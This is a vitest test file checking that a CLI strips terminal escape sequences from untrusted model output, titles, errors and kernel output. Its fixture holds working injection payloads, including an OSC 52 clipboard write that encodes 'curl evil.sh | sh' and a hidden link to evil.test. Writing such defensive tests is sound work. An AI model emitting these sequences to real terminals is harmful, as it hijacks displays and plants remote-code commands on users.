import { describe, expect, it } from 'vitest';
import { stripTerminalControls } from '../../src-main/cli/terminalText';
import { cliEnv, cliInProcess, cliTestScope, type CliResult } from './support/cliHarness';

/**
 * Attack: model text, cell output, answers and titles carry terminal control sequences:
 * OSC 52 (write the clipboard), OSC 0 (window title), OSC 8 (hidden links), CSI (clear
 * the screen, move the cursor to overprint), DCS, 8-bit C1 forms, a bare CR. The CLI
 * must print none of them, in every printing path, while keeping its own colours.
 */

const HOSTILE = [
  'Paris\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07',
  '\x1b]0;pwned title\x1b\\',
  '\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\',
  '\x1b[2J\x1b[1;1H',
  '\x9b31m\x9d0;c1 title\x9c',
  '\x1bP+q544e\x1b\\',
  'fake ok\rreal',
  '\x07\x08\x7f end',
].join(' ');

/** Any control character but newline and tab; with `allowOurSgr`, our own dim codes pass. */
function controls(text: string, allowOurSgr = false): string[] {
  // eslint-disable-next-line no-control-regex
  const rest = allowOurSgr ? text.replace(/\x1b\[(?:2|22)m/g, '') : text;
  // eslint-disable-next-line no-control-regex
  return [...rest.matchAll(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/g)].map((m) => JSON.stringify(m[0]));
}

function expectClean(result: CliResult, what: string, allowOurSgr = false): void {
  expect(controls(result.stdout, allowOurSgr), `${what} stdout`).toEqual([]);
  expect(controls(result.stderr, allowOurSgr), `${what} stderr`).toEqual([]);
}

const scope = cliTestScope();

describe('terminal control sequences in untrusted text', () => {
  it('are stripped from run output, show, sessions and errors; JSON outputs stay parseable', async () => {
    // Text-only replies: the engine nudges once, and the second reply is taken as the answer.
    const reply = { reply: [{ reasoning: `thinking ${HOSTILE}` }, { text: HOSTILE }], chunkSize: 5 };
    const server = await scope.model([reply, reply, reply, reply, reply, reply]);
    const dataDir = scope.dataDir('escapes');
    const env = cliEnv(dataDir, server.baseUrl, 'k-esc-0000');
    const title = `title \x1b]0;owned\x07 \x1b[31mred`;

    const text = await cliInProcess(['run', 'capital of France?', '--title', title], env);
    expect(text.stdout).toContain('Paris');
    expectClean(text, 'run (text)');
    const tty = await cliInProcess(['run', 'capital of France?', '--title', title], env, true);
    expect(tty.stdout).toContain('\x1b[2m'); // our dimmed reasoning survives
    expectClean(tty, 'run (text, terminal)', true);

    const ui = await cliInProcess(['run', 'capital of France?', '--stream', 'ui', '--title', title], env);
    expectClean(ui, 'run --stream ui');
    const events = ui.stdout.split('\n').filter((l) => l.startsWith('data: {')).map((l) => JSON.parse(l.slice(6)) as { type: string; delta?: string });
    // The hostile text arrives JSON-escaped for the consumer to handle, never raw.
    expect(events.filter((e) => e.type === 'text-delta').map((e) => e.delta).join('')).toContain('\x1b]52;c;');

    const sessions = await cliInProcess(['sessions'], env);
    expect(sessions.stdout).toContain('title');
    expectClean(sessions, 'sessions');
    const sessionsJson = await cliInProcess(['sessions', '--json'], env);
    expectClean(sessionsJson, 'sessions --json');
    const id = (JSON.parse(sessionsJson.stdout) as { id: string }[])[0]!.id;
    const show = await cliInProcess(['show', id], env);
    expect(show.stdout).toContain('Paris');
    expectClean(show, 'show');
    const showJson = await cliInProcess(['show', id, '--json'], env);
    expectClean(showJson, 'show --json');
    JSON.parse(showJson.stdout);

    // Errors that echo input.
    const missing = await cliInProcess(['show', 'no-such\x1b]0;pwned\x07session'], env);
    expect(missing.code).not.toBe(0);
    expectClean(missing, 'show <hostile id>');
    const unknown = await cliInProcess(['\x1b]52;c;aGk=\x07cmd'], env);
    expectClean(unknown, 'unknown command');
  });

  it('are stripped from kernel exec output', async () => {
    const dataDir = scope.dataDir('escapes-kernel');
    const env = cliEnv(dataDir, 'http://127.0.0.1:9/v1', 'k-esc-0000');
    const code = [
      'import sys',
      `print("out:" + ${JSON.stringify(HOSTILE)})`,
      `print("err:" + ${JSON.stringify(HOSTILE)}, file=sys.stderr)`,
      `raise ValueError(${JSON.stringify(HOSTILE)})`,
    ].join('\n');
    const result = await cliInProcess(['kernel', 'exec', '--lang', 'python', code], env);
    expect(result.stdout).toContain('out:Paris');
    expect(result.stderr).toContain('err:Paris');
    expect(result.stderr).toContain('ValueError');
    expectClean(result, 'kernel exec');
  });

  it('the stripper leaves printable text, tabs, newlines and non-Latin scripts intact', () => {
    const text = '胰岛素 INS\tα-helix\n“quoted” — done 🧬';
    expect(stripTerminalControls(text)).toBe(text);
    expect(stripTerminalControls('a\x1b]52;c;aGk=\x07b\x9b2Jc')).toBe('abc');
  });
});
